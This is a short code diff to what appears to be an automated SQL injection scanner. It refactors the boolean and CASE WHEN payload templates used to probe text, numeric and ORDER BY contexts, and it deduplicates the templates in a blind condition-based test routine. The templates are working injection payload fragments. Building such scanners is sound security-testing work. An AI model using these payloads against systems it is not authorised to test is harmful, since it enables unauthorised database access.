@@ -43,11 +43,12 @@ TEXT_CONTEXTS = (
     '{v}") AND {c} AND ("x" LIKE "x',
     "{v}')) AND {c} AND (('x' LIKE 'x",
 )
-NUMBER_CONTEXTS = ("{v} AND {c}", "{v}) AND {c} AND (7=7", "{v})) AND {c} AND ((7=7")
+_CASE = "(CASE WHEN {c} THEN {v} ELSE NULL END)"
+NUMBER_CONTEXTS = ("{v} AND {c}", _CASE)
 # ORDER BY: another order, or a failure (MySQL and PostgreSQL; SQLite and PostgreSQL).
 _MANY = "(CASE WHEN {c} THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)"
 _HUGE = "(CASE WHEN {c} THEN 1 ELSE abs(-9223372036854775807-1) END)"
-NAME_CONTEXTS = ("(CASE WHEN {c} THEN {v} ELSE NULL END)", f"{_MANY},{{v}}", f"{_HUGE},{{v}}")
+NAME_CONTEXTS = (_CASE, f"{_MANY},{{v}}", f"{_HUGE},{{v}}")
 DIRECTION_CONTEXTS = (f"{{v}},{_MANY}", f"{{v}},{_HUGE}")
 
 # These take away what restricts a statement, so they are kept for statements that only read.
@@ -174,7 +175,7 @@ async def _by_condition(probe: Probe) -> Proof | None:
     value = probe.point.value
     broken = _fill(BREAKS[-1], probe, t=probe.fresh.letters())
     if not page.same(await probe.send(broken), broken):  # otherwise the value breaks nothing
-        for template in (*_contexts(value), *_order_contexts(value)):
+        for template in dict.fromkeys((*_contexts(value), *_order_contexts(value))):
             proof = await difference(probe, _condition(probe, template), page)
             if proof is not None:
                 return proof
